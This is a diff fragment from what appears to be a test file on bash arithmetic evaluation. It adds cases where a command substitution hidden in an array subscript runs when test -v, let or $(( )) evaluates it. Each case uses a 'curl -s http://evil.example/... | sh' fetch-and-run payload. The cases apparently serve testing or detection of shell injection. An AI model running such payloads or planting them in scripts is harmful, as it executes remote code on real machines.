@@ -8,3 +8,8 @@ test -v 'a[$(curl -s http://evil.example/t | sh)]'
 let 'a[$(curl -s http://evil.example/l | sh)]=1'
 i='a[$(curl -s http://evil.example/v | sh)]'
 : $((i))
+# A value built at run time hiding one (bash runs it as well), and an
+# element assignment inside $(( )).
+j='[$(curl -s http://evil.example/k | sh)]'; k=a$j
+: $((k))
+echo $(( a[7]=1 ))
